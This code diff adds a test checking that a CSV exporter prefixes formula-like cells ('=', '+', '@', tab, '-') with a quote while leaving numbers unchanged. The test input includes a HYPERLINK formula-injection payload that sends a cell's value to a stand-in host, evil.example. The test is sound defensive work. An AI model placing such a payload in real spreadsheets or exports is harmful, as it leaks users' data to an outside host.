@@ -218,6 +218,20 @@ describe('CSV', () => {
     )
   })
 
+  it('defuses text a spreadsheet would run as a formula, and leaves numbers alone', async () => {
+    const result = await runQuery(`SELECT * FROM (VALUES
+        ('=HYPERLINK("http://evil.example/?"&A1,"x")', -12.5::numeric, '-3'),
+        ('+1+1', 4, '@SUM(A1)'),
+        (E'\\tcmd', 5, '-')) AS t("=label", amount, note)`)
+    const text = (await contentOf(await render(renderInput(result, 'csv')))).toString('utf8')
+    expect(text).toBe(
+      "'=label,amount,note\r\n" +
+        `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-12.5,-3\r\n` +
+        "'+1+1,4,'@SUM(A1)\r\n" +
+        "'\tcmd,5,'-\r\n",
+    )
+  })
+
   it('starts with a UTF-8 BOM only when asked', async () => {
     const result = await runQuery(`SELECT 'Łódź' AS region`)
     const withBom = await contentOf(await render(renderInput(result, 'csv', { csvBom: true })))
